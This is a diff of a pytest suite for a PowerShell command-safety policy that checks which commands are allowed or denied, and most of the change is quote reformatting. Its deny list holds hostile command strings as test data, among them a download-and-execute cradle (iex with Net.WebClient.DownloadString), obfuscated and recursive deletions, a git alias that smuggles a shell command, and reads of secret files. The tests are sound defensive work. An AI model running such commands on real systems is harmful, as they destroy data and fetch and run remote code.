@@ -10,7 +10,6 @@ from secure_shell.policy import powershell
 from tests.policy.conftest import B, D, P, U, N, F, X, S, I, W, assert_allowed, assert_denied, check
 
 
-
 def enc(script: str) -> str:
     return base64.b64encode(script.encode("utf-16-le")).decode()
 
@@ -30,7 +29,7 @@ DENIED = [
     ("R`e`m`o`v`e-Item x", B),
     ("Microsoft.PowerShell.Management\\Remove-Item x", B),
     ("& 'Remove-Item' x", B),
-    ("& \"Remove-Item\" x", B),
+    ('& "Remove-Item" x', B),
     ("& \u2018Remove-Item\u2019 x", B),
     ("& \u201cRemove-Item\u201d x", B),
     (". 'Remove-Item' x", B),
@@ -66,7 +65,7 @@ DENIED = [
     ("iex $s", N),
     ("Invoke-Expression $s", N),
     ("iex 'rm x'", B),
-    ("iex \"Remove-Item x\"", B),
+    ('iex "Remove-Item x"', B),
     ("Invoke-Expression -Command 'rm x'", B),
     ("iex (New-Object Net.WebClient).DownloadString('http://x')", N),
     ("[scriptblock]::Create('rm x').Invoke()", X),
@@ -94,7 +93,7 @@ DENIED = [
     ("Invoke-Command -ComputerName host -ScriptBlock { ls }", N),
     ("Start-Job { rm x }", B),
     ("function f { rm x }; f", B),
-    ("Write-Output \"$(Remove-Item x)\"", B),
+    ('Write-Output "$(Remove-Item x)"', B),
     ("Write-Output $(rm x)", B),
     ("$a = @(rm x)", B),
     ("$a = (rm x)", B),
@@ -130,7 +129,7 @@ DENIED = [
     ("powershell -enc !!notbase64!!", N),
     ("powershell -Bogus x", W),
     ("cmd /c del x", B),
-    ("cmd.exe /c \"rd /s /q x\"", B),
+    ('cmd.exe /c "rd /s /q x"', B),
     ("wsl rm x", B),
     ("bash -c 'rm x'", B),
     ("git -c alias.x='!rm x' x", N),
@@ -145,7 +144,7 @@ DENIED = [
     ("Set-Content -Path ..\\x.txt -Value y", P),
     ("'x' > C:\\Windows\\x.txt", P),
     ("Get-Content ~\\secret.txt", P),
-    ("Get-Content \"$env:USERPROFILE\\secret.txt\"", P),
+    ('Get-Content "$env:USERPROFILE\\secret.txt"', P),
     ("Get-Content $env:USERPROFILE\\secret.txt", P),
     ("Get-ChildItem HKLM:\\Software", U),
     ("Get-Item Registry::HKEY_LOCAL_MACHINE", U),
@@ -172,7 +171,7 @@ ALLOWED = [
     "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }",
     "Get-ChildItem | ForEach-Object { $_.Name }",
     "Write-Output 'rm is a word'",
-    "Write-Host \"Remove-Item is a cmdlet\"",
+    'Write-Host "Remove-Item is a cmdlet"',
     "echo hello",
     "'a|b' | Write-Output",
     "Select-String -Path *.ps1 -Pattern 'TODO'",
@@ -225,10 +224,19 @@ def test_powershell_allows(command: str) -> None:
     assert_allowed(check("powershell", command), command)
 
 
-@pytest.mark.parametrize("alias, cmdlet", [
-    ("iex", "invoke-expression"), ("rm", "remove-item"), ("iwr", "invoke-webrequest"), ("saps", "start-process"),
-    ("icm", "invoke-command"), ("%", "foreach-object"), ("gcm", "get-command"), ("sal", "set-alias"),
-])
+@pytest.mark.parametrize(
+    "alias, cmdlet",
+    [
+        ("iex", "invoke-expression"),
+        ("rm", "remove-item"),
+        ("iwr", "invoke-webrequest"),
+        ("saps", "start-process"),
+        ("icm", "invoke-command"),
+        ("%", "foreach-object"),
+        ("gcm", "get-command"),
+        ("sal", "set-alias"),
+    ],
+)
 def test_aliases_resolve_to_cmdlets(alias: str, cmdlet: str) -> None:
     assert powershell.command_key(alias) == cmdlet
 
